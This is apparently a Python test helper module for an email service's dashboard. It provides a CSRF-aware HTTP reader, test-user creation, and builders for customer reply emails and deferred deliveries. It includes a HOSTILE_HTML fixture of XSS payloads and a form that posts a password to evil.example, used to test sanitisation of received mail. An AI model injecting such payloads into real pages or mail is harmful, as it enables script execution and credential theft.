"""A dashboard reader over plain HTTP (no JavaScript, as a text browser would be): it keeps the
session cookie by hand, since a client's jar keeps a Secure cookie away from http, and sends our
own Origin and the page's CSRF token with every form, as a browser does."""

from __future__ import annotations

import re
import secrets
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.utils import make_msgid
from http.cookies import SimpleCookie
from typing import Any
from uuid import UUID, uuid4

import aiohttp

from api.dashboard.signin import DEVICE_COOKIE
from policy.dashboard.passwords import hash_password
from policy.dashboard.sessions import COOKIE_NAME
from storage.dashboard import users
from tests.conftest import TenantWorld, smtp_send

PASSWORD = "correct horse battery staple"
_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


async def make_user(world: TenantWorld) -> str:
    """A dashboard user of the tenant, made as `opensend user create` makes one."""
    email = f"agent-{secrets.token_hex(4)}@{world.name}"
    await users.create_user(world.pool, world.id, email, hash_password(PASSWORD))
    return email


@dataclass
class Page:
    status: int
    text: str
    headers: Any
    location: str | None

    @property
    def csrf(self) -> str:
        found = _CSRF.search(self.text)
        assert found, "no CSRF token on the page"
        return found.group(1)


@dataclass
class Reader:
    base: str
    http: aiohttp.ClientSession
    cookie: str | None = None
    last_set_cookie: list[str] = field(default_factory=list)
    forwarded_for: str | None = None  # as a reverse proxy in front would send it
    device: str | None = None  # the device token a sign-in gave this browser

    @property
    def origin(self) -> str:
        return self.base

    def _headers(self, extra: dict[str, str] | None = None) -> dict[str, str]:
        headers = dict(extra or {})
        cookies = [f"{COOKIE_NAME}={self.cookie}"] if self.cookie else []
        if self.device:
            cookies.append(f"{DEVICE_COOKIE}={self.device}")
        if cookies:
            headers["Cookie"] = "; ".join(cookies)
        if self.forwarded_for:
            headers["X-Forwarded-For"] = self.forwarded_for
        return headers

    async def _page(self, response: aiohttp.ClientResponse) -> Page:
        self.last_set_cookie = response.headers.getall("Set-Cookie", [])
        for raw in self.last_set_cookie:
            parsed: SimpleCookie = SimpleCookie()
            parsed.load(raw)
            if COOKIE_NAME in parsed:
                self.cookie = parsed[COOKIE_NAME].value or None
            if DEVICE_COOKIE in parsed:
                self.device = parsed[DEVICE_COOKIE].value or None
        return Page(
            response.status,
            await response.text(),
            response.headers,
            response.headers.get("Location"),
        )

    async def get(self, path: str) -> Page:
        async with self.http.get(
            self.base + path, headers=self._headers(), allow_redirects=False
        ) as response:
            return await self._page(response)

    async def post(
        self,
        path: str,
        form: dict[str, str] | list[tuple[str, str]],
        *,
        origin: str | None = "self",
    ) -> Page:
        """`form` as pairs when a field repeats (checkboxes of one name)."""
        headers = {} if origin is None else {"Origin": self.origin if origin == "self" else origin}
        async with self.http.post(
            self.base + path, data=form, headers=self._headers(headers), allow_redirects=False
        ) as response:
            return await self._page(response)

    async def sign_in(self, email: str, password: str = PASSWORD) -> Page:
        page = await self.post("/dashboard/login", {"email": email, "password": password})
        assert page.status == 303, page.text
        return page


def reader(base: str, http: aiohttp.ClientSession) -> Reader:
    return Reader(base, http)


async def signed_in(base: str, world: TenantWorld, http: aiohttp.ClientSession) -> Reader:
    """A reader signed in as a new user of the tenant."""
    me = reader(base, http)
    await me.sign_in(await make_user(world))
    return me


def session() -> aiohttp.ClientSession:
    return aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar())


# Received mail is attacker-controlled: each line tries one way to run script, leave the page
# or load something from elsewhere.
HOSTILE_HTML = """<p id="hello">Hello <b>there</b>, about my order</p>
<script>alert("script")</script>
<img src="x" onerror="alert('onerror')">
<svg onload="alert('svg')"><circle r="1"></circle></svg>
<a id="js-link" href="javascript:alert('link')">click me</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>
<div style="color: red; background: url(https://tracker.example/bg.png)">styled</div>
<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">
<iframe src="https://evil.example/frame"></iframe>
"""


def reply_message(address: str, *, text: str, html: str | None = None) -> bytes:
    """A customer's reply to our reply address, as a mail client writes it."""
    msg = EmailMessage()
    msg["From"] = "Carol <customer@example.net>"
    msg["To"] = address
    msg["Subject"] = "Re: Your order"
    msg["Message-ID"] = make_msgid(domain="example.net")
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    return msg.as_bytes(policy=msg.policy.clone(linesep="\r\n"))


async def reply_through_mx(
    mx_port: int, address: str, *, text: str, html: str | None = None
) -> UUID:
    sent = await smtp_send(
        mx_port, "customer@example.net", [address], reply_message(address, text=text, html=html)
    )
    [stored] = sent.stored_ids
    return stored


async def deferred_delivery(world: TenantWorld, email_id: UUID, recipient: str) -> UUID:
    """A recipient the delivery workers deferred: as storage.delivery.queue leaves the row."""
    delivery_id = uuid4()
    await world.pool.execute(
        "INSERT INTO deliveries (id, email_id, tenant_id, recipient, recipient_domain, status,"
        " attempts, next_attempt_at, last_code, last_enhanced, last_response, remote_host)"
        " VALUES ($1, $2, $3, $4, 'example.org', 'deferred', 2, now() + interval '1 hour',"
        " 451, '4.7.1', 'greylisted, try later', 'mx.example.org')",
        delivery_id,
        email_id,
        world.id,
        recipient,
    )
    await world.pool.execute(
        "UPDATE emails SET status = 'delivery_delayed' WHERE id = $1", email_id
    )
    return delivery_id
